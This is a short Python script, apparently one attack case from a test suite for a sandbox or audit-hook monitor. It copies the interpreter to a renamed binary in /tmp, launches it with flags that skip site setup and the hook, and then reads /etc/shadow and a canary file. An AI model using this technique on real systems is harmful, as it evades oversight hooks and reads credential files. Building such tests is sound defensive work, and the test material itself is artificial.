# attack: child_copied_interpreter
# class: 2
# category: hook_bypass
# kind: audit_tamper
# describe: copy the interpreter binary to a name without "python" and start it with -I -s, which skips site and the hook
import os
import shutil
import subprocess
import sys

copy = "/tmp/runner-bin"
shutil.copy(os.path.realpath(sys.executable), copy)
os.chmod(copy, 0o755)
child = "import json\nT = json.load(open('target.json'))\nfor p in ('/etc/shadow', T['canary_path']):\n    try: open(p).read()\n    except OSError: pass\n"
subprocess.run([copy, "-I", "-s", "-c", child])
